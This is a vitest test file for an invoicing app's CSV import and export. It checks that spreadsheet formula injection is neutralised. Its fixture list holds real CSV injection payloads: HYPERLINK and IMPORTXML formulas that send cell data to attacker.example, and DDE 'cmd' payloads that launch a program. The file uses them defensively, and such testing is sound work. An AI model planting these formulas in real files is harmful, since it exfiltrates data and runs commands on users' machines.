/** CSV formula injection (OWASP "CSV injection"): what a mail or an import says reaches a spreadsheet as text, never as a formula. */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { chainEvent } from '../../../utils/evidence/chain-event';
import { csvCell, timelineCsv } from '../../../utils/export/timeline-csv';
import { guessMapping } from '../../../utils/import/column-mapping';
import { mapRows } from '../../../utils/import/map-rows';
import { parseCsv } from '../../../utils/import/parse-csv';
import type { TimelineEvent } from '../../../utils/model/event';

const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Voir la facture")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://attacker.example/?", A2), "//a")',
];

const cells = (csv: string, delimiter = ',') =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter, newline: '\r\n', skipEmptyLines: true }).data.flat();

describe('CSV formula cells', () => {
  it('csvCell neutralises every formula prefix with a leading apostrophe, and leaves plain text alone', () => {
    for (const formula of FORMULAS) {
      const [cell] = cells(`${csvCell(formula)}\r\n`);
      expect(cell).toBe(`'${formula}`);
    }
    expect(csvCell('F-2026-014')).toBe('F-2026-014');
    expect(csvCell('Dupont, SARL')).toBe('"Dupont, SARL"');
  });

  it('the evidence CSV of a timeline full of formulas (subjects, notes, replies, invoice number) has no cell a spreadsheet would run', async () => {
    const events: TimelineEvent[] = [];
    const add = async (kind: TimelineEvent['kind'], data: unknown) =>
      events.push(
        await chainEvent(events.at(-1), {
          id: `e${events.length}`,
          invoiceId: 'i1',
          kind,
          data,
          recordedAt: '2026-11-20T10:00:00.000Z',
          occurredOn: '2026-11-20',
        } as never),
      );
    for (const formula of FORMULAS) {
      await add('note', { text: formula });
      await add('reminder-sent', {
        stage: 'reminder1',
        to: [{ name: formula, email: 'x@y.fr' }],
        subject: formula,
        body: `${formula}\n${formula}`,
        bodySha256: 'a'.repeat(64),
      });
      await add('reply-received', {
        messageId: 'm',
        from: { name: formula, email: 'x@y.fr' },
        excerpt: formula,
        kind: 'dispute',
        phrase: formula,
        receivedAt: '2026-11-20T10:00:00Z',
      });
    }
    for (const delimiter of [',', ';'] as const) {
      const csv = timelineCsv({ invoices: [{ id: 'i1', number: FORMULAS[0] }], events, delimiter });
      const all = cells(csv, delimiter);
      expect(all.length).toBeGreaterThan(events.length * 5);
      for (const cell of all) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(all).toContain(`'${FORMULAS[0]}`);
    }
  });

  it('an imported CSV keeps formula cells as inert text (never evaluated, never dropped), so they can be exported neutralised', () => {
    const header = 'Numéro;Client;E-mail;Date de facture;Montant TTC';
    const rows = FORMULAS.slice(0, 5).map(
      (formula, i) => `"${formula.replace(/"/g, '""')}";"${formula.replace(/"/g, '""')}";client${i}@exemple.fr;15/01/2026;1 200,00`,
    );
    const table = parseCsv([header, ...rows].join('\r\n'));
    const mapped = mapRows(table, guessMapping(table.headers), { currency: 'EUR', paymentTermsDays: 30 });
    expect(mapped.map((r) => r.invoice?.number)).toEqual(FORMULAS.slice(0, 5).map((f) => f.trim()));
    expect(mapped.every((r) => r.invoice?.amountDue.minor === 120000)).toBe(true);
  });
});
